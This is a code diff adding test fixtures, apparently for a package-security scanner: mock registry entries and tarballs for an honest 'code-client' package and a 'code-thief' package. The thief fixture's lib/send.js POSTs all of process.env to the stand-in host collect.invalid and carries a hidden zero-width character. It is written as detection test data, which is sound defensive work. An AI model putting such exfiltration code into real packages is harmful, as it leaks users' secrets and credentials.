@@ -1,3 +1,4 @@
+import { packageOf } from '../../artifacts/make-tarball.js';
 import { packument, type RawPackument, type VersionDraft } from '../../support/packuments.js';
 import type { RawOsvRecord } from '../../support/osv-server.js';
 import type { BulkAdvisory } from '../../support/registry-server.js';
@@ -37,6 +38,7 @@ export function registryPackages(now: number): readonly RawPackument[] {
     packument('shop-glob', { '1.0.0': { ...PLAIN, deprecated: 'Node.js has it now.' } }),
     packument('shop-locked', { '1.5.0': PLAIN, '2.0.0': PLAIN }),
     ...deepPackages(),
+    ...packagesWithCode((days) => hoursAgo(24 * days)),
   ];
 }
 
@@ -55,6 +57,50 @@ function deepPackages(): readonly RawPackument[] {
     packument('deep-xml', { '1.0.0': PLAIN, '1.0.1': PLAIN }),
   ];
 }
+
+/** Those whose files are looked into: an honest client, and one that sends away what it finds. */
+function packagesWithCode(daysAgo: (days: number) => string): readonly RawPackument[] {
+  return [
+    packument('code-client', {
+      '1.0.0': { ...PLAIN, published: daysAgo(100) },
+      '1.1.0': { ...PLAIN, published: daysAgo(6) },
+    }),
+    packument('code-thief', { '1.0.0': PLAIN }),
+  ];
+}
+
+const CLIENT = `'use strict';
+const https = require('https');
+
+exports.read = (path, done) => {
+  const request = https.get('https://api.example.com' + path, done);
+  if (process.env.CODE_CLIENT_DEBUG === '1') console.error(path);
+  return request;
+};
+`;
+
+const VERSION_OF_GIT = `
+exports.git = (done) => require('child_process').execFile('git', ['--version'], done);
+`;
+
+/** Nothing of it is ever run. */
+const THIEF = `'use strict';
+const https = require('https');
+
+// hidden: \u200b
+const request = https.request({ hostname: 'collect.invalid', method: 'POST' });
+request.end(JSON.stringify(process.env));
+`;
+
+/** The package files of those with code. */
+export const TARBALLS: Readonly<Record<string, Buffer>> = {
+  'code-client@1.0.0': packageOf({ name: 'code-client', version: '1.0.0' }, { 'index.js': CLIENT }),
+  'code-client@1.1.0': packageOf({ name: 'code-client', version: '1.1.0' }, { 'index.js': CLIENT + VERSION_OF_GIT }),
+  'code-thief@1.0.0': packageOf(
+    { name: 'code-thief', version: '1.0.0' },
+    { 'index.js': "require('./lib/send.js');\n", 'lib/send.js': THIEF },
+  ),
+};
 
 /** What its endpoint for advisories answers. */
 export const REGISTRY_ADVISORIES: Readonly<Record<string, readonly BulkAdvisory[]>> = {
